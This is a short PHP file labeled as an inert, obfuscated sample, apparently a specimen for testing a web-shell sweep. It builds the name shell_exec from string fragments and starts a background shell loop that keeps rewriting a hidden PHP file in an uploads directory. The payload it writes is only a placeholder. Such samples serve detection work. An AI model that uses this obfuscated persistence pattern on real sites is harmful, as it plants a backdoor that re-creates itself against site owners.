<?php
// sweep sample (inert, obfuscated): the shell loop is built in a variable and handed to
// shell_exec through a name assembled from pieces; the loop keeps writing a PHP file back.
$q1 = 'shell' . '_' . 'exec';
$z9 = "<?php /* placeholder */ ?>";
$x_ = "while true; do printf '%s' '" . $z9 . "' >> ../uploads/.thumbs.php; sleep 2; done &";
@shell_exec($x_);
@$q1($x_);
